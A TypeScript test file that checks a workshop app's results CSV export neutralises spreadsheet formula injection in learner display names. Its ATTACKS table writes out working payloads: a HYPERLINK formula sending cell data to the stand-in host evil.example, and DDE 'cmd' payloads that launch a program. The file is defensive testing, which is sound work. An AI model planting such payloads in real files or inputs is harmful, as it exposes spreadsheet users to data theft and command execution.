// The results CSV as the attack: learners whose display names are spreadsheet formulas, on a real
// (SQLite) database, read back the way a spreadsheet splits a CSV — on commas, and on semicolons as Excel
// does in many European locales. No cell may start with a character that makes it a formula.
import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { loadLessons } from '@dockside/lessons';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createDb, migrate, type Db } from '../db/client';
import type { Engine } from '../engine/engine';
import { REPO_ROOT } from '../paths';
import { csvCell, Workshops } from './workshops';

const lessons = loadLessons(path.join(REPO_ROOT, 'lessons', 'content'));
// Results come from progress alone; no sandbox is asked for.
const noSandboxes = {} as unknown as Engine;
const kim = { id: 'kim', email: 'kim@example.com', name: 'Kim', isAdmin: true };

/** Splits CSV text into rows of cells as a spreadsheet does (RFC 4180 quoting, any one separator). */
function readAsSpreadsheet(text: string, separator: ',' | ';' | '\t'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c !== '"') cell += c;
      else if (text[i + 1] === '"') cell += text[i++];
      else quoted = false;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === separator || (c === '\r' && text[i + 1] === '\n')) {
      row.push(cell);
      cell = '';
      if (c === '\r') {
        rows.push(row);
        row = [];
        i++;
      }
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

const FORMULA_START = /^[=+\-@\t\r]/;

let dir: string;
let db: Db;

beforeEach(async () => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'dockside-csv-'));
  const database = { provider: 'sqlite' as const, url: `file:${path.join(dir, 'db.sqlite')}` };
  await migrate(database);
  db = createDb(database);
  await db.instructor.create({ data: { id: 'kim', email: 'kim@example.com', passwordHash: 'x' } });
  await db.workshop.create({
    data: { id: 'w', title: 'Room', joinCode: 'ABCDEFGH', lessonIds: '["Docker_Intro"]', seatLimit: 9, ownerId: 'kim' },
  });
});

afterEach(async () => {
  await db.$disconnect();
  rmSync(dir, { recursive: true, force: true });
});

const ATTACKS = {
  '=': '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+': "+1+cmd|' /C calc'!A0",
  '-': "-2+3+cmd|' /C calc'!A0",
  '@': "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  CR: '\r=1+1',
};

describe('results CSV', () => {
  for (const [first, name] of Object.entries(ATTACKS))
    it(`a display name starting with ${first} opens as text in a spreadsheet, not as a formula`, async () => {
      await db.learner.create({ data: { id: 'ana', displayName: name } });
      await db.enrollment.create({ data: { id: 'e-ana', workshopId: 'w', learnerId: 'ana' } });
      const csv = await new Workshops(db, noSandboxes, () => lessons).resultsCsv(kim, 'w');
      const rows = readAsSpreadsheet(csv, ',');
      const steps = lessons.find((l) => l.id === 'Docker_Intro')!.steps.length;
      expect(rows).toHaveLength(1 + steps);
      for (const row of rows.slice(1)) {
        expect(row).toHaveLength(7);
        // The name is all there, behind the ' that makes a spreadsheet show it as text.
        expect(row[0]).toBe(`'${name}`);
      }
      for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
    });

  it('a display name with a semicolon or a tab cannot start a formula cell in a spreadsheet that splits on them', async () => {
    await db.learner.create({ data: { id: 'ana', displayName: 'Ana;=1+1' } });
    await db.learner.create({ data: { id: 'ben', displayName: 'Ben\t@SUM(1+1)' } });
    await db.enrollment.create({ data: { id: 'e-ana', workshopId: 'w', learnerId: 'ana' } });
    await db.enrollment.create({ data: { id: 'e-ben', workshopId: 'w', learnerId: 'ben' } });
    const csv = await new Workshops(db, noSandboxes, () => lessons).resultsCsv(kim, 'w');
    for (const separator of [',', ';', '\t'] as const)
      for (const cell of readAsSpreadsheet(csv, separator).flat()) expect(cell).not.toMatch(FORMULA_START);
    const names = readAsSpreadsheet(csv, ',').map((row) => row[0]);
    expect(names).toContain('Ana;=1+1');
    expect(names).toContain('Ben\t@SUM(1+1)');
  });

  it('leaves ordinary cells as they are and quotes what CSV needs quoted', () => {
    expect(csvCell('Kim')).toBe('Kim');
    expect(csvCell(42)).toBe('42');
    expect(csvCell('2026-03-02T09:00:00.000Z')).toBe('2026-03-02T09:00:00.000Z');
    expect(csvCell('Kim, Lee')).toBe('"Kim, Lee"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('=1')).toBe("'=1");
  });
});
